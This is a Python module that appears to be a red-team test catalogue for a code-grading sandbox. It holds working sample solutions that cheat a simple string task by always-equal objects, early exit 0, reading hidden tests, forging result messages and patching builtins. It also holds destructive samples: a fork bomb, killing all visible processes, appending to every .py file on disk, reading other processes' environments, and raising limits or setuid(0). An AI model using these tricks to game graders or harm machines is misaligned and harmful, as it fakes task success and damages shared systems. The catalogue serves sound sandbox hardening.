"""The attack catalogue: the ways a policy (or a person) has tried to get a
reward without solving the task, or to damage the grader, each one a
solution graded once (``ATTACKS``), and the demo task they target.

Each attack targets ``DEMO_TESTS`` (remove the first and last occurrence of a
character) unless it brings tests of its own. None of them contains the
expected outputs, so none of them may pass; ``tests/test_redteam.py`` also
checks that each leaves no process and no file behind and that the grader
survives. ``glyph demo`` grades a few of them. Stdlib only.
"""

from __future__ import annotations

import socket
from dataclasses import dataclass

DEMO_PROMPT = "Write remove_first_last(s, ch): remove the first and the last occurrence of ch from s."
DEMO_TESTS = """\
assert remove_first_last("hello", "l") == "heo"
assert remove_first_last("abcda", "a") == "bcd"
assert remove_first_last("PHP", "P") == "H"
"""
DEMO_SOLUTION = """\
def remove_first_last(s, ch):
    first = s.find(ch)
    if first < 0:
        return s
    s = s[:first] + s[first + 1:]
    last = s.rfind(ch)
    return s if last < 0 else s[:last] + s[last + 1:]
"""
DEMO_WRONG = """\
def remove_first_last(s, ch):
    return s.replace(ch, "", 1)
"""

# Tests of another shape: they go through the referee path.
REFEREE_TESTS = """\
from solution import remove_first_last

CASES = [("hello", "l", "heo"), ("abcda", "a", "bcd"), ("PHP", "P", "H")]
for s, ch, want in CASES:
    assert remove_first_last(s, ch) == want

def test_no_occurrence():
    assert remove_first_last("xyz", "q") == "xyz"
"""


@dataclass(frozen=True)
class Attack:
    name: str
    tries: str
    source: str
    referee: bool = False  # grade against REFEREE_TESTS instead of DEMO_TESTS
    own_tests: str | None = None  # tests of its own (what it attacks is their shape)

    @property
    def tests(self) -> str:
        """What the attack is graded against."""
        return self.own_tests or (REFEREE_TESTS if self.referee else DEMO_TESTS)


def wire_bomb(tree: str) -> str:
    """A solution whose checked call answers with the JSON tree the body ``tree`` returns: it
    patches the sandbox's own ``wire.encode``, so the result channel carries that tree, whatever
    ``encode`` would allow (the process is the solution's: it may write any bytes there)."""
    return f"""
import sys
wire = sys.modules["wire"]
encode, MARK = wire.encode, object()
def bomb():
    {tree}
wire.encode = lambda value, *a, **k: bomb() if value is MARK else encode(value, *a, **k)
def remove_first_last(s, ch): return MARK
"""


CAP_SETS = 7200  # empty sets ({"s":[]}, 9 bytes each) in an answer line just under glyph.grading.ANSWER_BYTES

ATTACKS: tuple[Attack, ...] = (
    Attack("always_equal", "return an object whose __eq__ is always true", """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def remove_first_last(s, ch): return Anything()
"""),
    Attack("str_subclass_equal", "a str subclass that equals anything", """
class S(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def remove_first_last(s, ch): return S(s)
"""),
    Attack("str_subclass_repr", "a str subclass that lies in its repr and str", """
class S(str):
    def __repr__(self): return "'heo'"
    def __str__(self): return "heo"
def remove_first_last(s, ch): return S("nope")
"""),
    Attack("always_equal_referee", "an always-equal object against referee-path tests", """
class Anything:
    def __eq__(self, other): return True
    def __bool__(self): return True
def remove_first_last(s, ch): return Anything()
""", referee=True),
    Attack("excepthook_marker", "an excepthook that prints a success marker over any failure", """
import sys
def hook(*a):
    print("PASS"); print("ALL TESTS PASSED")
sys.excepthook = hook
def remove_first_last(s, ch): raise ValueError("no")
"""),
    Attack("read_test_files", "find the hidden tests on disk (running file, cwd, /proc, whole filesystem) and answer them", """
import os, re
FOUND = {}
def scan(text):
    for m in re.finditer(r'remove_first_last\\("([^"]*)", *"([^"]*)"\\) *== *"([^"]*)"', text):
        FOUND[(m.group(1), m.group(2))] = m.group(3)
for path in [__file__, "/proc/self/cmdline", "/proc/1/cmdline", "/proc/self/environ"]:
    try: scan(open(path, errors="ignore").read())
    except Exception: pass
count = 0
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys")): dirs[:] = []; continue
    for f in files:
        count += 1
        if count > 20000: break
        if f.endswith((".py", ".json", ".jsonl", ".txt")):
            try: scan(open(os.path.join(root, f), errors="ignore").read(200000))
            except Exception: pass
def remove_first_last(s, ch): return FOUND.get((s, ch), s)
"""),
    Attack("caller_frames", "read the expected value from the caller's frames", """
import sys
def remove_first_last(s, ch):
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()) + list(f.f_globals.values()):
            if isinstance(v, str) and v not in (s, ch) and len(v) < len(s) and set(v) <= set(s):
                return v
        f = f.f_back
    return s
"""),
    Attack("gc_scan", "search every live object for a plausible expected string", """
import gc
def remove_first_last(s, ch):
    want = len(s) - 2
    for o in gc.get_objects():
        for v in (o.values() if isinstance(o, dict) else o if isinstance(o, (list, tuple)) else ()):
            if type(v) is str and len(v) == want and ch not in v and set(v) <= set(s):
                return v
    return s
"""),
    Attack("sys_exit_zero", "exit with status 0 before any check runs", """
import sys
sys.exit(0)
"""),
    Attack("os_exit_zero", "hard-exit with status 0 before any check runs", """
import os
os._exit(0)
"""),
    Attack("exit_in_call", "exit with status 0 from inside the checked call", """
import os
def remove_first_last(s, ch): os._exit(0)
"""),
    Attack("kill_grader", "kill the parent, pid 1, every process it can see, and its process group", """
import os, signal
for target in (os.getppid(), 1, -1):
    try: os.kill(target, signal.SIGKILL)
    except Exception: pass
try: os.killpg(0, signal.SIGKILL)
except Exception: pass
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        try: os.kill(int(p), signal.SIGKILL)
        except Exception: pass
def remove_first_last(s, ch): return s
"""),
    Attack("stdout_flood", "print hundreds of megabytes to grow the grader's memory", """
import sys, os
chunk = "x" * (1 << 20) + "\\n"
for _ in range(300): sys.stdout.write(chunk)
for _ in range(100): os.write(2, b"y" * (1 << 20))
def remove_first_last(s, ch): return s
"""),
    Attack("memory_bomb", "allocate 16 GB", """
block = bytearray(16 << 30)
def remove_first_last(s, ch): return s
"""),
    Attack("cpu_spin", "spin forever, ignoring SIGXCPU and SIGTERM", """
import signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
def remove_first_last(s, ch):
    while True: pass
"""),
    Attack("sleep_forever", "block on the wall clock without using CPU", """
import time
def remove_first_last(s, ch):
    time.sleep(3600)
"""),
    Attack("double_fork_daemon", "leave a setsid daemon that outlives the run", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(0, 10):
            try: os.close(fd)
            except OSError: pass
        time.sleep(600)
    os._exit(0)
time.sleep(0.05)
def remove_first_last(s, ch): return s
"""),
    Attack("fork_bomb", "fork until the machine falls over", """
import os
for _ in range(10000):
    try: os.fork()
    except OSError: break
def remove_first_last(s, ch): return s
"""),
    Attack("thread_keeps_pipe", "a thread and a grandchild that keep the output pipes open", """
import os, threading, time, subprocess
subprocess.Popen(["sleep", "600"])
threading.Thread(target=lambda: time.sleep(600), daemon=False).start()
def remove_first_last(s, ch): return s
"""),
    Attack("write_outside", "write files outside the run directory (tmp, shm, home, the grader's own files)", """
import os
targets = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/work", "/farm", "/usr/lib", "/"]
for root in list(targets):
    try: targets += [os.path.join(root, d) for d in os.listdir(root)][:50]
    except Exception: pass
for d in targets:
    try:
        with open(os.path.join(d, "glyph-pwned"), "w") as f: f.write("pwned")
    except Exception: pass
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys")): dirs[:] = []; continue
    for f in files:
        if f.endswith(".py"):
            try:
                with open(os.path.join(root, f), "a") as fh: fh.write("\\n# pwned\\n")
            except Exception: pass
def remove_first_last(s, ch): return s
"""),
    Attack("monkeypatch_builtins", "patch type/isinstance/repr/json so the result encoder lies", """
import builtins, json
real_type = builtins.type
class Anything:
    def __eq__(self, other): return True
builtins.type = lambda x, *a: str if not a and real_type(x).__name__ == "Anything" else real_type(x, *a)
builtins.isinstance = lambda *a: True
json.dumps = lambda *a, **k: '{"ev":"ret","id":0,"value":"heo"}'
def remove_first_last(s, ch): return Anything()
"""),
    Attack("sys_modules", "replace the sandbox's own modules in sys.modules and patch its encoder", """
import sys
class Fake:
    def __getattr__(self, name): return lambda *a, **k: {"ev": "ret", "value": "x"}
for name in list(sys.modules):
    if name in ("wire", "worker", "json"):
        sys.modules[name] = Fake()
w = sys.modules.get("worker")
def remove_first_last(s, ch): return s
"""),
    Attack("forge_messages", "write forged result and status messages to every open fd", """
import os
forged = [b'{"ev":"ready"}\\n', b'{"ev":"ret","id":0,"value":{"h":0}}\\n', b'{"ev":"status","exit":0}\\n',
          b'{"passed": true, "outcome": "PASS"}\\n', b'\\xff\\xfe garbage\\n']
for fd in range(3, 64):
    for msg in forged:
        try: os.write(fd, msg)
        except OSError: pass
def remove_first_last(s, ch): return s
"""),
    Attack("atexit_and_signals", "atexit and signal handlers that print success and forge results", """
import atexit, os, signal
atexit.register(lambda: os.write(3, b'{"ev":"ret","id":2,"value":"H"}\\n'))
for sig in (signal.SIGTERM, signal.SIGXCPU, signal.SIGUSR1):
    signal.signal(sig, lambda *a: print("PASS"))
def remove_first_last(s, ch): return ch
"""),
    Attack("recursion_crash", "overflow the C stack to crash the interpreter", """
import sys
sys.setrecursionlimit(10 ** 7)
def remove_first_last(s, ch):
    def down(n): return down(n + 1) + 1
    return down(0)
"""),
    Attack("proc_secrets", "read the environment and argv of every process it can see", """
import os
seen = []
for p in os.listdir("/proc"):
    for f in ("environ", "cmdline"):
        try: seen.append(open(f"/proc/{p}/{f}", "rb").read().decode(errors="replace"))
        except Exception: pass
seen.append(repr(dict(os.environ)))
print("\\n".join(seen))
def remove_first_last(s, ch): return s
"""),
    Attack("odd_output", "invalid UTF-8, lone surrogates, NULs and terminal escapes on stdout and stderr", """
import os, sys
os.write(1, b"\\xff\\xfe\\xfd invalid \\x00 nul \\x1b[2J\\x1b]0;title\\x07")
sys.stdout.write("\\ud800 lone surrogate \\U0010ffff \\u202e rtl")
sys.stderr.buffer.write(b"\\x80\\x81" * 1000)
def remove_first_last(s, ch): return "\\udcff" + s
"""),
    Attack("network", "reach the network and the host's loopback", """
import socket
PORTS = [80, 8000, 8080]
for host in ("127.0.0.1", "1.1.1.1", "::1"):
    for port in PORTS:
        try:
            socket.create_connection((host, port), timeout=0.2)
            print("connected", host, port)
        except OSError: pass
def remove_first_last(s, ch): return s
"""),
    Attack("raise_limits", "raise its own limits, change uid, chroot out", """
import os, resource
for r in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
    try: resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except Exception: pass
for f in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.setgid(0)):
    try: f()
    except Exception: pass
def remove_first_last(s, ch): return s
"""),
    Attack("huge_result", "return a result far larger than any cap", """
def remove_first_last(s, ch): return "x" * (200 << 20)
"""),
    Attack("deep_result", "return a list nested 100,000 levels deep", """
def remove_first_last(s, ch):
    v = []
    for _ in range(100000): v = [v]
    return v
"""),
    Attack("close_channels", "close the result and request channels", """
import os
for fd in range(0, 64):
    try: os.close(fd)
    except OSError: pass
def remove_first_last(s, ch): return s
"""),
    Attack("referee_identity", "against referee-path tests, return its argument to make a comparison hold", """
def remove_first_last(s, ch): return s
""", referee=True),
    Attack("rebound_module", "a sys stand-in, so that the expected side sys.intern(...) agrees", """
import types
sys = types.ModuleType("sys")
sys.intern = lambda s: "agreed"
def remove_first_last(s, ch): return "agreed"
""", own_tests="""\
assert remove_first_last("hello", "l") == sys.intern("heo")
assert remove_first_last("PHP", "P") == sys.intern("H")
"""),
    Attack("rebound_builtin_referee", "rebind sorted, used on both sides of referee-path tests", """
sorted = lambda xs: []
def remove_first_last(s, ch): return s
""", own_tests="""\
from solution import remove_first_last
def test_sorted():
    assert sorted(remove_first_last("hello", "l")) == sorted("heo")
    assert sorted(remove_first_last("PHP", "P")) == sorted("H")
"""),
    Attack("stop_iteration", "raise StopIteration inside the tests' own iteration (all(map(...)))", """
def remove_first_last(s, ch): raise StopIteration
""", own_tests="""\
from solution import remove_first_last
assert all(map(lambda s, ch, want: remove_first_last(s, ch) == want, ["hello", "PHP"], ["l", "P"], ["heo", "H"]))
"""),
    Attack("surrogate_exception", "raise with lone surrogates, markup and terminal escapes in the message, to "
           "crash or fool what prints or stores the grade", """
def remove_first_last(s, ch):
    raise ValueError("\\udcff\\ud800 [/] [bold green]PASS[/] \\x1b[2J\\x1b[32mPASS\\x00")
"""),
    Attack("wire_hash_collision_set", "a set of 100,000 ints that share one hash (multiples of 2**61 - 1): "
           "building it compares each with every earlier one", wire_bomb(
               'return {"s": [{"i": hex(k * (2 ** 61 - 1))} for k in range(1, 100_001)]}')),
    Attack("wire_hash_collision_dict", "against referee-path tests, a dict whose 60,000 complex keys share "
           "one hash (-1000003k + kj), for the relay to build", wire_bomb(
               'return {"d": [[{"c": [float(-1000003 * k).hex(), float(k).hex()]}, None] '
               'for k in range(1, 60_001)]}'), referee=True),
    Attack("wire_node_bomb", "16 MB of empty lists: 3 bytes of JSON, 64 bytes of grader memory each",
           wire_bomb("return [[]] * 5_400_000")),
    Attack("wire_relay_bomb", "against referee-path tests, 16 MB of empty sets, for the relay to decode, "
           "re-encode and send on to the referee", wire_bomb('return [{"s": []}] * 1_800_000'), referee=True),
    Attack("wire_cap_sets", "answers just under the answer cap (64 KiB), each the shape that costs the "
           "decoder most (empty sets: 216 bytes each, decoded); graded many at once, they add up in the "
           "grader (tests/test_redteam.py grades 32 copies at once)",
           wire_bomb(f'return [{{"s": []}}] * {CAP_SETS}')),
    Attack("million_zero_lines", "a 2 MiB solution: the function, then a million lines of 0, and the name of "
           "a builtin the tests read, so that the grader looks for its rebinding (its own parse of such a "
           "file took 1.6 GB and 4 s)",
           "str = str\ndef remove_first_last(s, ch): return s\n" + "0\n" * 1_000_000,
           own_tests='assert remove_first_last("hello", "l") == str("heo")\n'),
)


def attack(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)


def aimed_at_a_listener(attack: Attack) -> tuple[str, socket.socket | None]:
    """The attack's source, and for ``network`` a listener on 127.0.0.1
    (0.1 s accept timeout) that the attack tries instead of the ports it
    names: a connection the sandbox let through is accepted there. The
    caller closes the listener."""
    if attack.name != "network":
        return attack.source, None
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    return attack.source.replace("PORTS = [80, 8000, 8080]", f"PORTS = [{listener.getsockname()[1]}]"), listener
